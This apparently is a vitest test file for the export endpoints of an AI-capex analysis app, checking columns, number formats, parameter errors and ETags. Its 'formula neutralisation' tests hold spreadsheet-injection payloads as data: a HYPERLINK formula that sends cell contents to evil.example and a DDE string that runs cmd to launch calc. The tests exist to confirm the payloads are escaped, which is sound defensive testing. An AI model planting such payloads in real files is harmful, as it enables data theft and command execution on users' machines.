import ExcelJS from "exceljs";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createApp } from "../../../server/app.ts";
import { importObservations } from "../../../server/services/importObservations.ts";
import { type TempStore, tempStore } from "../../helpers/store.ts";

type Computed = { value: number | string | null; reasons?: { kind: string; message: string }[] };
/** A column of an export and where the API has its value; a computed one is followed by its reason column. */
interface Spec {
  key: string;
  csvHeader: string;
  read(entry: any): Computed | string | null;
  computed: boolean;
}
const computed = (key: string, csvHeader: string, read: (entry: any) => Computed): Spec => ({ key, csvHeader, read, computed: true });
const plain = (key: string, csvHeader: string, read: (entry: any) => string | null): Spec => ({ key, csvHeader, read, computed: false });

const HYPERSCALERS = ["MSFT", "GOOGL", "AMZN", "META"];
/** The funding columns (issue 7), read from an entry's funding object. */
function fundingSpecs(prefix: string, fundingOf: (entry: any) => any): Spec[] {
  return [
    computed("ocf_ttm", `${prefix}operating cash flow TTM (USD m)`, (e) => fundingOf(e).ocfTtm),
    computed("fcf_ttm", `${prefix}free cash flow TTM (USD m)`, (e) => fundingOf(e).fcfTtm),
    computed("fcf_ttm_yoy", `${prefix}free cash flow TTM YoY (fraction)`, (e) => fundingOf(e).fcfTtmYoY),
    computed("capex_to_ocf", `${prefix}capex / operating cash flow (fraction)`, (e) => fundingOf(e).capexToOcf),
    computed("da_ttm", `${prefix}D&A TTM (USD m)`, (e) => fundingOf(e).daTtm),
    computed("da_ttm_yoy", `${prefix}D&A TTM YoY (fraction)`, (e) => fundingOf(e).daTtmYoY),
    computed("capex_to_da", `${prefix}capex / D&A (x)`, (e) => fundingOf(e).capexToDa),
    plain("funding", `${prefix}funding`, (e) => fundingOf(e).flag.status),
    plain("funding_margin", `${prefix}OCF TTM - capex TTM (USD m)`, (e) => fundingOf(e).flag.margin),
  ];
}
const THESIS: Spec[] = [
  plain("quarter", "Quarter", (q) => q.quarter),
  ...HYPERSCALERS.map((entity, i) => computed(`capex_${entity.toLowerCase()}`, `${entity} capex (USD m)`, (q) => q.companies[i].capex)),
  computed("capex", "Aggregate capex (USD m)", (q) => q.aggregate.capex),
  computed("capex_ttm", "Aggregate capex TTM (USD m)", (q) => q.aggregate.capexTtm),
  computed("capex_ttm_yoy", "Aggregate capex TTM YoY (fraction)", (q) => q.aggregate.capexTtmYoY),
  computed("revenue_ttm", "Aggregate revenue TTM (USD m)", (q) => q.aggregate.revenueTtm),
  computed("intensity", "Capex intensity (fraction)", (q) => q.aggregate.intensity),
  computed("cloud_revenue_ttm", "Cloud revenue TTM (USD m)", (q) => q.aggregate.cloudRevenueTtm),
  computed("capex_to_cloud_revenue", "Capex to cloud revenue (x)", (q) => q.aggregate.capexToCloudRevenue),
  computed("ai_revenue_annualized", "AI revenue, annualized (USD m)", (q) => q.aiRevenue.total),
  computed("coverage", "Coverage ratio (fraction)", (q) => q.coverage),
  computed("dollar_gap", "Dollar gap (USD m)", (q) => q.dollarGap),
  computed("sequoia_required_revenue", "Sequoia required revenue (USD m)", (q) => q.sequoiaRequiredRevenue),
  computed("sequoia_gap", "Sequoia gap (USD m)", (q) => q.sequoiaGap),
  plain("flag", "Coverage flag", (q) => q.flag.status),
  plain("flag_explanation", "Flag explanation", (q) => q.flag.explanation),
  ...fundingSpecs("Aggregate ", (q) => q.funding.aggregate),
];
const yesNo = (above: { value: boolean | null; reasons?: Computed["reasons"] }): Computed =>
  above.value === null ? { value: null, reasons: above.reasons } : { value: above.value ? "yes" : "no" };
const COMPANIES: Spec[] = [
  plain("company", "Company", (c) => c.entity),
  plain("quarter", "Quarter", (c) => c.quarter),
  computed("capex", "Capex (USD m)", (c) => c.capex),
  computed("capex_ttm", "Capex TTM (USD m)", (c) => c.capexTtm),
  computed("capex_yoy", "Quarterly capex YoY (fraction)", (c) => c.capexYoY),
  computed("revenue_ttm", "Revenue TTM (USD m)", (c) => c.revenueTtm),
  computed("intensity", "Capex intensity (fraction)", (c) => c.intensity),
  computed("earlier_peak", "Earlier peak intensity (fraction)", (c) => c.earlierPeak),
  plain("earlier_peak_quarter", "Earlier peak quarter", (c) => c.earlierPeakQuarter),
  computed("above_earlier_peak", "Above earlier peak", (c) => yesNo(c.aboveEarlierPeak)),
  ...fundingSpecs("", (c) => c.funding),
];

const csvHeaders = (specs: Spec[]) =>
  specs.flatMap((s) => (s.computed ? [s.csvHeader, `${s.csvHeader.replace(/ \((USD m|fraction|x)\)$/, "")}: why missing`] : [s.csvHeader]));
const keys = (specs: Spec[]) => specs.flatMap((s) => (s.computed ? [s.key, `${s.key}_reason`] : [s.key]));
/** The API's cells in the export's column order: a computed value, then its reason (null when known). */
const cells = (specs: Spec[], entry: any) =>
  specs.flatMap((s): (number | string | null)[] => {
    const read = s.read(entry);
    // An export's reason cell is the reasons' messages joined by "; " (README, Exports).
    return typeof read === "object" && read !== null
      ? [read.value, read.reasons ? read.reasons.map((r) => r.message).join("; ") : null]
      : [read];
  });

let store: TempStore;
let app: ReturnType<typeof createApp>;
let thesis: any;
beforeAll(async () => {
  store = await tempStore("default-data");
  app = createApp({ store });
  thesis = await (await app.request("/api/thesis")).json();
});
afterAll(() => store.close());

const readCsv = async (path: string) => {
  const response = await app.request(path);
  expect(response.status).toBe(200);
  return Papa.parse<string[]>(await response.text(), { skipEmptyLines: true }).data;
};
const readXlsx = async (path: string) => {
  const response = await app.request(path);
  expect(response.status).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await response.arrayBuffer());
  return workbook;
};
/** Row n (1-based) of a sheet as cell values, null for an empty cell. */
const sheetRow = (sheet: ExcelJS.Worksheet, n: number) =>
  Array.from({ length: sheet.columnCount }, (_, i) => sheet.getRow(n).getCell(i + 1).value ?? null);
/** The latest quarter each company has capex, as the companies table takes it. */
const latestPerCompany = () =>
  HYPERSCALERS.map((_entity, i) => {
    const entry = thesis.quarters.findLast((q: any) => q.companies[i].capex.value !== null);
    return { ...entry.companies[i], quarter: entry.quarter, funding: entry.funding.companies[i] };
  });

describe("GET /api/export/thesis", () => {
  it("CSV: has the thesis's columns and, cell by cell, the numbers and reasons of /api/thesis", async () => {
    const [header, ...rows] = await readCsv("/api/export/thesis.csv");
    expect(header).toEqual(csvHeaders(THESIS));
    expect(rows).toHaveLength(thesis.quarters.length);
    let missing = 0;
    thesis.quarters.forEach((entry: any, i: number) => {
      const expected = cells(THESIS, entry);
      missing += expected.filter((cell) => cell === null).length;
      expect(rows[i]).toEqual(expected.map((cell) => (cell === null ? "" : String(cell))));
    });
    expect(missing).toBeGreaterThan(100);
  });

  it("XLSX: has the same cells as numbers, a frozen header, number formats and a sources sheet", async () => {
    const workbook = await readXlsx("/api/export/thesis.xlsx");
    expect(workbook.worksheets.map((s) => s.name)).toEqual(["thesis", "Sources and method"]);
    const sheet = workbook.getWorksheet("thesis")!;
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheetRow(sheet, 1)).toEqual(csvHeaders(THESIS).map((h) => h.replace(/ \((USD m|fraction|x)\)$/, "")));
    expect(sheet.rowCount).toBe(thesis.quarters.length + 1);
    thesis.quarters.forEach((entry: any, i: number) => {
      expect(sheetRow(sheet, i + 2)).toEqual(cells(THESIS, entry));
    });

    const column = (key: string) => keys(THESIS).indexOf(key) + 1;
    const last = sheet.getRow(sheet.rowCount);
    expect(last.getCell(column("capex_ttm")).numFmt).toBe('"$"#,##0.0,"B"');
    expect(last.getCell(column("coverage")).numFmt).toBe("0.0%");
    expect(last.getCell(column("capex_to_cloud_revenue")).numFmt).toBe('0.00"x"');
    expect(sheet.getColumn(column("flag_explanation")).width).toBe(60);
  });

  it("XLSX: says where the figures come from, how they are computed and with which parameters", async () => {
    const workbook = await readXlsx("/api/export/thesis.xlsx?lookback=2");
    const sheet = workbook.getWorksheet("Sources and method")!;
    const rows = Array.from({ length: sheet.rowCount }, (_, i) => sheetRow(sheet, i + 1));
    expect(rows).toContainEqual(expect.arrayContaining(["Data version", 1]));
    expect(rows).toContainEqual(expect.arrayContaining(["lookback", "2"]));
    expect(rows).toContainEqual(expect.arrayContaining(["Coverage ratio", "AI revenue annualized / aggregate capex TTM"]));
    const msft = (await (await app.request("/api/observations?entity=MSFT&metric=capex&from=2025-Q1&to=2025-Q1")).json()) as any;
    const source = msft.observations[0].source;
    expect(rows.find((row) => row[0] === source)).toEqual([
      source,
      expect.stringContaining("MSFT"),
      expect.stringContaining("capex"),
      expect.any(String),
      expect.any(String),
      expect.any(Number),
    ]);
    const nvda = rows.filter((row) => String(row[2]).includes("datacenter_revenue"));
    expect(nvda.length).toBeGreaterThan(0);
  });

  it("JSON: has the columns with their kinds, and rows keyed by column equal to /api/thesis", async () => {
    const response = await app.request("/api/export/thesis.json");
    const body = (await response.json()) as any;
    expect(body).toMatchObject({ table: "thesis", dataVersion: 1, parameters: { companies: "MSFT,GOOGL,AMZN,META", lookback: "4" } });
    expect(body.columns.map((c: any) => c.key)).toEqual(keys(THESIS));
    expect(body.columns.find((c: any) => c.key === "coverage")).toEqual({ key: "coverage", header: "Coverage ratio", kind: "percent" });
    thesis.quarters.forEach((entry: any, i: number) => {
      const expected = cells(THESIS, entry);
      expect(keys(THESIS).map((key) => body.rows[i][key])).toEqual(expected);
    });
    expect(body.sources.length).toBeGreaterThan(10);
    expect(body.formulas).toContainEqual(["Dollar gap", "Aggregate capex TTM - AI revenue annualized"]);
  });

  it("takes the thesis parameters: fewer quarters, other companies", async () => {
    const [header, ...rows] = await readCsv("/api/export/thesis.csv?companies=MSFT,AMZN&from=2024-Q1&to=2024-Q4");
    expect(header!.slice(0, 5)).toEqual([
      "Quarter",
      "MSFT capex (USD m)",
      "MSFT capex: why missing",
      "AMZN capex (USD m)",
      "AMZN capex: why missing",
    ]);
    expect(rows.map((r) => r[0])).toEqual(["2024-Q1", "2024-Q2", "2024-Q3", "2024-Q4"]);
  });
});

describe("GET /api/export/companies", () => {
  it("CSV, XLSX and JSON: one row per company at its latest quarter, equal to /api/thesis", async () => {
    const expected = latestPerCompany().map((company) => cells(COMPANIES, company));
    const [header, ...csv] = await readCsv("/api/export/companies.csv");
    expect(header).toEqual(csvHeaders(COMPANIES));
    expect(csv).toEqual(expected.map((row) => row.map((cell) => (cell === null ? "" : String(cell)))));

    const sheet = (await readXlsx("/api/export/companies.xlsx")).getWorksheet("companies")!;
    expect([2, 3, 4, 5].map((n) => sheetRow(sheet, n))).toEqual(expected);

    const json = (await (await app.request("/api/export/companies.json")).json()) as any;
    expect(json.rows.map((row: any) => keys(COMPANIES).map((key) => row[key]))).toEqual(expected);
  });
});

describe("GET /api/export/observations", () => {
  it("has the raw figures of /api/observations with basis, source and note, negative numbers as numbers", async () => {
    const query = "entity=AMZN&metric=operating_cash_flow&to=2017-Q4";
    const api = ((await (await app.request(`/api/observations?${query}`)).json()) as any).observations;
    const expected = api.map((o: any) => [
      o.entity,
      o.metric,
      o.period,
      o.periodEnd,
      o.fiscalLabel,
      o.value,
      o.unit,
      o.basis,
      o.source,
      o.note,
    ]);
    expect(expected.some((row: any[]) => row[5] < 0)).toBe(true);

    const [header, ...csv] = await readCsv(`/api/export/observations.csv?${query}`);
    expect(header).toEqual(["Entity", "Metric", "Period", "Period end", "Fiscal label", "Value", "Unit", "Basis", "Source", "Note"]);
    expect(csv).toEqual(expected.map((row: any[]) => row.map((cell) => (cell === null ? "" : String(cell)))));

    const sheet = (await readXlsx(`/api/export/observations.xlsx?${query}`)).getWorksheet("observations")!;
    expect(expected.map((_: unknown, i: number) => sheetRow(sheet, i + 2))).toEqual(expected);
  });
});

describe("export responses", () => {
  it.each([
    ["thesis", "csv", "text/csv; charset=utf-8; header=present"],
    ["thesis", "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"],
    ["thesis", "json", "application/json; charset=utf-8"],
    ["companies", "csv", "text/csv; charset=utf-8; header=present"],
    ["companies", "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"],
    ["observations", "json", "application/json; charset=utf-8"],
  ])("serves %s.%s as %s, an attachment named after the table and the data version", async (table, format, type) => {
    const response = await app.request(`/api/export/${table}.${format}`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe(type);
    expect(response.headers.get("content-disposition")).toBe(`attachment; filename="ai-capex-${table}-v1.${format}"`);
  });

  it("writes CSV with a byte-order mark, CRLF line ends and a final CRLF", async () => {
    const bytes = new Uint8Array(await (await app.request("/api/export/companies.csv")).arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text.startsWith("Company,Quarter,")).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(text.split("\r\n")).toHaveLength(HYPERSCALERS.length + 2);
  });

  it.each([
    ["thesis.csv?lookbak=4", "lookbak", "unknown parameter"],
    ["thesis.xlsx?companies=MSFT,TSLA", "companies", "unknown entity: TSLA"],
    ["companies.json?margin=1", "margin", "must be below 1"],
    ["companies.csv?from=2025-Q1&to=2024-Q1", "to", expect.stringContaining("must not be before from")],
    ["observations.csv?metric=capx", "metric", "unknown metric: capx"],
    ["observations.xlsx?lookback=4", "lookback", "unknown parameter"],
    ["observations.json?from=2024", "from", "expected a quarter as YYYY-Qn"],
  ])("answers 400 naming the parameter for %s", async (path, parameter, message) => {
    const response = await app.request(`/api/export/${path}`);
    expect(response.status).toBe(400);
    expect(((await response.json()) as any).error).toMatchObject({ code: "bad_request", details: [{ parameter, message }] });
  });

  it.each(["thesis.pdf", "capex.csv", "thesis", "Thesis.csv", "thesis.csv.csv", "thesis.pdf?lookbak=4", ""])(
    "answers 404 for /api/export/%s",
    async (path) => {
      const response = await app.request(`/api/export/${path}`);
      expect(response.status).toBe(404);
      expect(((await response.json()) as any).error.code).toBe("not_found");
    },
  );
});

describe("formula neutralisation", () => {
  let injected: TempStore;
  let injectedApp: ReturnType<typeof createApp>;
  const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"10-Q")';
  beforeAll(async () => {
    injected = await tempStore("default-data");
    injectedApp = createApp({ store: injected });
    const report = await importObservations(
      injected,
      [
        {
          name: "hostile.csv",
          text:
            "entity,metric,period,value,unit,source,note\n" +
            `AMZN,operating_cash_flow,2030-Q1,-1234.5,USD_m,"${HYPERLINK.replaceAll('"', '""')}","${HYPERLINK.replaceAll('"', '""')}"\n` +
            `AMZN,operating_cash_flow,2030-Q2,-7,USD_m,+cmd|' /C calc'!A0,@SUM(1+1)\n`,
        },
      ],
      { tokenName: "test" },
    );
    expect(report.committed).toBe(true);
  });
  afterAll(() => injected.close());
  const path = (format: string) => `/api/export/observations.${format}?entity=AMZN&metric=operating_cash_flow&from=2030-Q1`;

  it("CSV: a source or note that begins a formula arrives with a leading apostrophe; negative values stay numbers", async () => {
    const text = await (await injectedApp.request(path("csv"))).text();
    const [, first, second] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(first!.slice(5)).toEqual(["-1234.5", "USD_m", "reported", `'${HYPERLINK}`, `'${HYPERLINK}`]);
    expect(second!.slice(5)).toEqual(["-7", "USD_m", "reported", "'+cmd|' /C calc'!A0", "'@SUM(1+1)"]);
    expect(text).toContain(",-1234.5,");
  });

  it("XLSX: the same in the table and on the sources sheet, values as numbers and no formula cell", async () => {
    const response = await injectedApp.request(path("xlsx"));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    const sheet = workbook.getWorksheet("observations")!;
    expect(sheetRow(sheet, 2).slice(5)).toEqual([-1234.5, "USD_m", "reported", `'${HYPERLINK}`, `'${HYPERLINK}`]);
    expect(sheetRow(sheet, 3).slice(5)).toEqual([-7, "USD_m", "reported", "'+cmd|' /C calc'!A0", "'@SUM(1+1)"]);
    const sources = workbook.getWorksheet("Sources and method")!;
    const firstColumn = Array.from({ length: sources.rowCount }, (_, i) => sources.getRow(i + 1).getCell(1).value);
    expect(firstColumn).toContain(`'${HYPERLINK}`);
    workbook.eachSheet((s) => s.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula))));
  });
});

describe("export ETags", () => {
  it("names table, format, parameters and data version alike on every request, answers 304 to a client that has it, and moves with the data", async () => {
    const own = await tempStore("default-data");
    const ownApp = createApp({ store: own });
    const path = "/api/export/thesis.csv?lookback=2";
    const first = await ownApp.request(path);
    const etag = first.headers.get("ETag")!;
    expect(etag).toMatch(/^"export-thesis\.csv-1-[\w-]{16}"$/);
    expect(first.headers.get("Cache-Control")).toBe("no-cache");
    expect((await ownApp.request(path)).headers.get("ETag")).toBe(etag);
    expect((await ownApp.request("/api/export/thesis.xlsx?lookback=2")).headers.get("ETag")).not.toBe(etag);
    expect((await ownApp.request("/api/export/thesis.csv?lookback=3")).headers.get("ETag")).not.toBe(etag);
    const revalidated = await ownApp.request(path, { headers: { "If-None-Match": etag } });
    expect(revalidated.status).toBe(304);
    expect(revalidated.headers.get("ETag")).toBe(etag);
    expect(await revalidated.text()).toBe("");

    await importObservations(
      own,
      [{ name: "q3.csv", text: "entity,metric,period,value,unit,source\nMSFT,capex,2026-Q3,40100,USD_m,x\n" }],
      {
        tokenName: "test",
      },
    );
    const changed = await ownApp.request(path, { headers: { "If-None-Match": etag } });
    expect(changed.status).toBe(200);
    expect(changed.headers.get("ETag")).toMatch(/^"export-thesis\.csv-2-/);
    await own.close();
  });
});
